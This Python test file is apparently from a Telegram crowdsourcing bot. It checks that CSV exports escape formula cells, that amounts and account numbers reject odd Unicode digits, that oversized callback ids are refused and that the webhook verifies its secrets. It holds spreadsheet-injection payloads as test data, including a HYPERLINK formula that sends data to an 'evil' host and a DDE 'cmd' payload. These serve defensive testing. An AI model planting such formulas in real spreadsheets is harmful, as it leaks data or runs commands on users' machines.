"""Items 2, 5 and 8 of issue 18: spreadsheets, odd digits, huge ids, expired leases, the webhook."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient, TestServer
from sqlalchemy import func, select

from bot import clock
from bot.app import dispatcher_for, make_app, make_bot, make_database
from bot.config import Settings
from bot.db import Database
from bot.handlers.callbacks import TaskCb
from bot.i18n import t
from bot.plain_text import csv_cell, printable
from bot.sandbox import Sandbox, create_sample_project
from bot.simulate import SimWorker
from bot.tasks import service
from bot.tasks.models import Answer
from bot.tasks.service import Refusal, TaskCard
from bot.wallet import payout_accounts, payouts, withdrawals
from bot.wallet.payout_accounts import PayoutAccountError
from bot.webhook import build_web_app
from bot.work import answers
from tests.domain.helpers import make_project, make_workers
from tests.wallet.helpers import earn

# ---------------------------------------------------------------------------- item 2: CSV cells


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://x?"&E2,"Click")', '\'=HYPERLINK("http://x?"&E2,"Click")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Kim", "Kim"),
        ("-5", "-5"),  # a plain number cannot run
        ("+82.5", "+82.5"),
        (-5, -5),
        (1.5, 1.5),
        (None, None),
        ("", ""),
    ],
)
def test_csv_cell_neutralises_formulas_and_keeps_numbers(value: Any, cell: Any) -> None:
    assert csv_cell(value) == cell


def test_payouts_export_neutralises_formulas(db: Database, tmp_path: Path) -> None:
    (w,) = make_workers(db, 1)
    with db.session() as s:
        from bot.workers.models import Worker

        worker = s.get(Worker, w)
        assert worker is not None
        worker.name = '=HYPERLINK("http://evil/?"&E2,"Click")'
        earn(s, w, 1, 30_000)
        payout_accounts.save(s, w, bank="신한", number="110-000-000001", holder="@holder")
        withdrawal = withdrawals.request(s, w, 10_000, minimum=10_000)
        assert withdrawal is not None
    out = tmp_path / "bank.csv"
    with db.read_session() as s:
        payouts.write_csv(payouts.export_rows(s), out)
    (row,) = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert row["name"] == '\'=HYPERLINK("http://evil/?"&E2,"Click")'
    assert row["holder"] == "'@holder"
    assert row["account_number"] == "110000000001" and row["amount"] == "10000"


@pytest.mark.parametrize("bank", ["=cmd|' /C calc'!A0", "+Bank", "@Bank", "Bank[/]", "Bank\x1b[2J", "은행=1"])
def test_bank_names_are_letters_digits_and_punctuation(bank: str) -> None:
    with pytest.raises(PayoutAccountError) as caught:
        payout_accounts.clean_bank(bank)
    assert caught.value.code == "bad_bank"


@pytest.mark.parametrize("bank", ["신한", "KB국민", "NH농협", "Deutsche Bank AG", "St. George's (NSW)", "SC제일-1"])
def test_real_bank_names_still_pass(bank: str) -> None:
    assert payout_accounts.clean_bank(bank) == bank


# ---------------------------------------------------------------------------- item 5: digits and ids


@pytest.mark.parametrize(("text", "amount"), [("12,000", 12000), ("１２０００", 12000), ("₩12 000", 12000), ("²³", 23)])
def test_amounts_are_ascii_digits_after_nfkc(text: str, amount: int) -> None:
    assert withdrawals.parse_amount(text) == amount


@pytest.mark.parametrize("text", ["١٢٠٠٠", "12\u200b000", "\u202e00021", "12.5", "", "-100", "1" * 13])
def test_other_amounts_are_refused_not_crashed(text: str) -> None:
    assert withdrawals.parse_amount(text) is None


def test_account_numbers_are_ascii_digits() -> None:
    assert payout_accounts.clean_number("110-123-456789") == "110123456789"
    assert payout_accounts.clean_number("１１０１２３４５６７８９") == "110123456789"  # fullwidth: normalised
    for bad in ("١١٠١٢٣٤٥٦٧٨٩", "110123\u200b456789", "\u202e110123456789", "110123456789\u200f", "11０12\u00a0"):
        with pytest.raises(PayoutAccountError):
            payout_accounts.clean_number(bad)


def test_holder_loses_control_characters() -> None:
    assert payout_accounts.clean_holder("Kim\x1b[2J\u202e Lee\n") == "Kim[2J Lee"
    assert printable("a\x00b\x9bc") == "abc"


def test_callback_ids_are_bounded() -> None:
    assert TaskCb.unpack("t:l:9223372036854775807:0").id == 2**63 - 1
    assert TaskCb.unpack("t:g:1:-3").v == -3  # the handler says "not one of the choices"
    for data in ("t:l:9223372036854775808:0", "t:l:1:99999999999999999999", "t:l:1:-9223372036854775809", "t:l:-1:0"):
        with pytest.raises(ValueError):
            TaskCb.unpack(data)


# ---------------------------------------------------------------------------- item 8: leases, webhook


def test_an_expired_lease_says_expired_even_after_the_task_moved_on(db: Database, tmp_path: Path) -> None:
    make_project(db, tmp_path / "imgs", count=1, overlap=1, lease_seconds=60)
    w1, w2 = make_workers(db, 2)
    card = db.call(service.next_task, w1)
    assert isinstance(card, TaskCard)
    clock.advance(61)
    assert isinstance(db.call(service.next_task, w2), TaskCard)  # the sweeper took the slot back
    assert db.call(answers.submit_answer, w1, card.assignment_id, "a") == Refusal.EXPIRED
    assert db.call(service.skip, w1, card.assignment_id) == Refusal.EXPIRED


@pytest.fixture
async def webhook(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[TestClient]:
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'hook.db'}")
    monkeypatch.setenv("MEDIA_DIR", str(tmp_path / "media"))
    monkeypatch.setenv("BOT_TOKEN", "42:TEST")
    monkeypatch.setenv("METRICS_TOKEN", "scrape-me")
    settings = Settings()
    db = make_database(settings)
    app = make_app(settings, db)
    bot = make_bot(settings, metrics=app.metrics)
    web_app = build_web_app(app, bot, dispatcher_for(app), secret="s3cret", path="/hook", metrics_token=settings.webhook.metrics_token)
    client = TestClient(TestServer(web_app))
    await client.start_server()
    try:
        yield client
    finally:
        await client.close()
        await bot.session.close()
        db.dispose()


@pytest.mark.filterwarnings("ignore:Detected unknown update type")
async def test_webhook_secret_body_and_metrics(webhook: TestClient) -> None:
    right = {"X-Telegram-Bot-Api-Secret-Token": "s3cret"}
    assert (await webhook.post("/hook", data="{not json", headers={"X-Telegram-Bot-Api-Secret-Token": "wrong"})).status == 401
    assert (await webhook.post("/hook", data=json.dumps({"update_id": 1}))).status == 401  # no secret at all
    for body in (b"{not json", b"[1, 2]", b"\xff\xfe", b""):
        response = await webhook.post("/hook", data=body, headers=right)
        assert response.status == 400, body
        assert "JSON object" in (await response.json())["error"]
    assert (await webhook.post("/hook", data=json.dumps({"update_id": 1}), headers=right)).status == 200
    assert (await webhook.get("/metrics")).status == 401
    assert (await webhook.get("/metrics", headers={"Authorization": "Bearer nope"})).status == 401
    scraped = await webhook.get("/metrics", headers={"Authorization": "Bearer scrape-me"})
    assert scraped.status == 200 and "crowdpin" in await scraped.text()
    assert (await webhook.get("/healthz")).status == 200


async def test_a_forged_huge_id_is_answered_and_changes_nothing(sandbox: Sandbox, tmp_path: Path) -> None:
    """Before: OverflowError in the handler, an ERROR traceback and a spinning button."""
    box = sandbox
    create_sample_project(box.db, tmp_path / "images", count=2, overlap=1)
    sim = SimWorker.create(box.emulator, "w", "en")
    await sim.start()
    screen = await sim.request_task()
    assert screen is not None
    for data in ("t:l:9223372036854775808:0", f"t:l:{screen.assignment_id}:18446744073709551616", "go:99999999999999999999"):
        cq = await box.emulator.send_callback_query(sim.user_id, screen.message_id, data)
        answer = await box.emulator.wait_for(lambda cq=cq: box.emulator.callback_answer(cq), timeout=10)
        assert answer["text"] == t("refuse.unknown", "en"), data
    assert await sim.tap(screen, screen.labels()[0]) is not None  # the real button still works
    with box.db.session() as s:
        assert s.execute(select(func.count(Answer.id))).scalar_one() == 1


def test_answer_and_result_exports_neutralise_formulas(db: Database, tmp_path: Path) -> None:
    """``export --reveal-workers`` wrote worker names as they are; external ids too."""
    from bot.tasks import datasets, export
    from bot.workers.models import Worker
    from tests.admin.helpers import answer_all, classify_project, jpeg

    project = classify_project(db, overlap=1, price=7)
    folder = tmp_path / "imgs"
    jpeg(folder / "@a.jpg", seed=1)
    jpeg(folder / "b.jpg", seed=2)
    assert project.id is not None
    datasets.load(db, project.id, folder, media_dir=None, copy=False)
    (wid,) = answer_all(db, 1, lambda card, wid: "cat")
    with db.session() as s:
        worker = s.get(Worker, wid)
        assert worker is not None
        worker.name = "=1+2"
    out = tmp_path / "answers.csv"
    export.export(db, project.id, what="answers", fmt="csv", out=out, secret="s", reveal_workers=True)
    rows = list(csv.DictReader(io.StringIO(out.read_text(), newline="")))
    assert {r["worker_name"] for r in rows} == {"'=1+2"}
    assert sorted(r["external_id"] for r in rows) == ["'@a.jpg", "b.jpg"]
    results = tmp_path / "results.csv"
    export.export(db, project.id, what="results", fmt="csv", out=results, secret="s", method="majority_vote")
    assert sorted(r["external_id"] for r in csv.DictReader(io.StringIO(results.read_text(), newline=""))) == ["'@a.jpg", "b.jpg"]
